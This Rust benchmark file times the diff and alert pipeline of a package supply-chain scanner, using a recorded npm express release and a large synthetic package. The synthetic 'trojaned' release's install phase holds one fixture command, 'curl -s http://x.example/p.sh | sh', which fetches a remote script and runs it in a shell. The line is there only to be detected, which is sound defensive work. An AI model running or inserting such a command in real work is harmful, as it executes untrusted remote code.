//! How fast the diff is, and how long an alert takes:
//!
//! 1. profiles diffed and scored per second on one core: a real release
//!    (npm express 5.3.0, recorded: static and dynamic results, 67
//!    dependencies installed) against its next release (version strings
//!    changed), and a large synthetic release (5,000 files, and 5,000 file
//!    events and commands in each phase) against its trojaned next
//!    release; also profiles built per second from the results;
//! 2. end-to-end latency through a real nats-server: from the publish of a
//!    release's second result to the arrival of its alert at a
//!    subscriber, with the diff service in between (merge, compare-and-
//!    swap history write, decide, publish).
//!
//!     cargo bench -p paddock-diff-service --bench diff_throughput [-- RELEASES]
#![allow(clippy::disallowed_methods)] // a bench binary reads its own environment

use std::io::Read;
use std::sync::Arc;
use std::time::{Duration, Instant};

use futures::StreamExt;
use paddock_bus::{Bus, CancellationToken};
use paddock_diff::{diff, from_dynamic, from_static, Profile, Scoring, Suppressions};
use paddock_diff_service::{DiffConfig, DiffMetrics, DiffService};
use paddock_proto::v1::{
    Alert, AnalysisRun, AnalysisStatus, Command, DynamicResult, Ecosystem, FileEvent, FileFacts,
    FileOp, PackageRef, Phase, PhaseResult, StaticResult,
};
use prost::Message;

fn express(version: &str) -> (StaticResult, DynamicResult) {
    let path = concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/../paddock-diff/tests/fixtures/npm-express-5.3.0.json.gz"
    );
    let bytes = std::fs::read(path).expect("the recorded express fixture");
    let mut text = String::new();
    flate2::read::GzDecoder::new(&bytes[..])
        .read_to_string(&mut text)
        .unwrap();
    let text = text.replace("5.3.0", version);
    let (s, d) = paddock_diff::results_from_json(&text).unwrap();
    (s, d.expect("the fixture has a dynamic result"))
}

fn word(mut i: usize) -> String {
    let mut out = String::new();
    for _ in 0..4 {
        out.push((b'a' + (i % 26) as u8) as char);
        i /= 26;
    }
    out
}

/// A large package: thousands of files, and a busy install.
fn large(version: &str, trojan: bool) -> (StaticResult, DynamicResult) {
    let package = PackageRef {
        ecosystem: Ecosystem::Npm as i32,
        name: "large".into(),
        version: version.into(),
    };
    let files = (0..5_000)
        .map(|i| FileFacts {
            path: format!("lib/{}/{}.js", word(i / 50), word(i)),
            size: 4_000,
            ..Default::default()
        })
        .collect();
    let s = StaticResult {
        package: Some(package.clone()),
        status: AnalysisStatus::Completed as i32,
        files,
        ..Default::default()
    };
    let phase = |p: Phase| {
        let mut r = PhaseResult {
            phase: p as i32,
            status: AnalysisStatus::Completed as i32,
            file_events: (0..5_000)
                .map(|i| FileEvent {
                    seq: i as u64,
                    pid: 50,
                    op: FileOp::Create as i32,
                    path: format!("/srv/cache/{}/{}.bin", word(i / 50), word(i)),
                    ..Default::default()
                })
                .collect(),
            commands: (0..5_000)
                .map(|i| Command {
                    seq: i as u64,
                    pid: 60 + i as u32,
                    parent_pid: 40,
                    argv: vec![
                        "sh".into(),
                        "-c".into(),
                        format!("gen {} {version}", word(i)),
                    ],
                    ..Default::default()
                })
                .collect(),
            ..Default::default()
        };
        if trojan && p == Phase::Install {
            r.commands.push(Command {
                seq: 9_999,
                pid: 9_999,
                parent_pid: 40,
                argv: vec![
                    "sh".into(),
                    "-c".into(),
                    "curl -s http://x.example/p.sh | sh".into(),
                ],
                ..Default::default()
            });
        }
        r
    };
    let d = DynamicResult {
        package: Some(package),
        status: AnalysisStatus::Completed as i32,
        phases: vec![
            phase(Phase::Install),
            phase(Phase::Import),
            phase(Phase::Execute),
        ],
        ..Default::default()
    };
    (s, d)
}

fn profile(r: &(StaticResult, DynamicResult)) -> Profile {
    let mut p = from_static(&r.0);
    p.merge(from_dynamic(&r.1));
    p
}

/// Diff-and-score rounds per second on this thread, for `budget`.
fn rate(old: &Profile, new: &Profile, scoring: &Scoring, budget: Duration) -> (f64, usize) {
    let none = Suppressions::default();
    let started = Instant::now();
    let mut n = 0u64;
    let mut changes = 0;
    while started.elapsed() < budget {
        let c = diff(old, new);
        let v = scoring.verdict(new, Some(old), &c, &none);
        changes = c.len();
        std::hint::black_box(v);
        n += 1;
    }
    (n as f64 / started.elapsed().as_secs_f64(), changes)
}

fn throughput() {
    let scoring = Scoring::builtin();
    let budget = Duration::from_secs(3);

    let (a, b) = (express("5.3.0"), express("5.3.1"));
    let started = Instant::now();
    let mut built = 0;
    while started.elapsed() < budget {
        std::hint::black_box(profile(&a));
        built += 1;
    }
    let build_rate = built as f64 / started.elapsed().as_secs_f64();
    let (pa, pb) = (profile(&a), profile(&b));
    let (r, changes) = rate(&pa, &pb, &scoring, budget);
    println!(
        "  express 5.3.0 → 5.3.1 ({} items, {} file facts, {} changes): {r:.0} diffs/s; profiles built from results: {build_rate:.1}/s",
        pb.items.len(),
        a.0.files.len(),
        changes
    );

    let (a, b) = (large("1.0.0", false), large("1.0.1", true));
    let started = Instant::now();
    let (pa, pb) = (profile(&a), profile(&b));
    let build = started.elapsed() / 2;
    let size = serde_json::to_vec(&pb).unwrap().len();
    let (r, changes) = rate(&pa, &pb, &scoring, budget);
    println!(
        "  large synthetic release → trojaned next ({} items kept, {} KiB as stored, {} changes): {r:.0} diffs/s; building one profile: {:.0} ms",
        pb.items.len(),
        size / 1024,
        changes,
        build.as_secs_f64() * 1000.0
    );
}

async fn latency(releases: usize) {
    let nats = paddock_testkit::TestNats::start().await;
    let (bus, config) = nats.bus().await;
    let shutdown = CancellationToken::new();
    let service = DiffService::new(
        &bus,
        &DiffConfig::default(),
        config.topology.max_deliver,
        Arc::new(DiffMetrics::default()),
    )
    .await
    .unwrap();
    tokio::spawn(service.run(shutdown.clone()));
    let mut alerts = bus
        .client()
        .subscribe(bus.names().alert_filter(None, None))
        .await
        .unwrap();
    let (s0, d0) = express("5.3.0");
    let mut waits = Vec::new();
    for i in 0..releases {
        let version = format!("5.{}.{}", 4 + i / 100, i % 100);
        let pkg = PackageRef {
            ecosystem: Ecosystem::Npm as i32,
            name: "express".into(),
            version: version.clone(),
        };
        let mut s = s0.clone();
        s.package = Some(pkg.clone());
        s.run = Some(AnalysisRun {
            run_id: format!("s{i}"),
            ..Default::default()
        });
        let mut d = d0.clone();
        d.package = Some(pkg);
        d.run = Some(AnalysisRun {
            run_id: format!("d{i}"),
            ..Default::default()
        });
        let names = bus.names();
        bus.publish(&names.static_result(Ecosystem::Npm), &format!("s{i}"), &s)
            .await
            .unwrap();
        // The static result is held; the dynamic one completes the release.
        tokio::time::sleep(Duration::from_millis(20)).await;
        let t0 = Instant::now();
        bus.publish(&names.dynamic_result(Ecosystem::Npm), &format!("d{i}"), &d)
            .await
            .unwrap();
        loop {
            let msg = tokio::time::timeout(Duration::from_secs(30), alerts.next())
                .await
                .expect("an alert within 30 s")
                .unwrap();
            let alert = Alert::decode(msg.payload.as_ref()).unwrap();
            if alert.package.as_ref().map(|p| p.version.as_str()) == Some(version.as_str()) {
                break;
            }
        }
        waits.push(t0.elapsed());
    }
    shutdown.cancel();
    waits.sort();
    let pct = |p: f64| waits[((waits.len() as f64 - 1.0) * p).round() as usize];
    println!(
        "  end to end, second result published → alert received ({releases} releases of express, real nats-server, history CAS): p50 {:.1} ms, p95 {:.1} ms, max {:.1} ms",
        pct(0.5).as_secs_f64() * 1000.0,
        pct(0.95).as_secs_f64() * 1000.0,
        waits.last().unwrap().as_secs_f64() * 1000.0
    );
}

#[tokio::main]
async fn main() {
    let releases: usize = std::env::args()
        .skip(1)
        .find_map(|a| a.parse().ok())
        .unwrap_or(200);
    println!("diff throughput (one core) and alert latency");
    throughput();
    latency(releases).await;
}
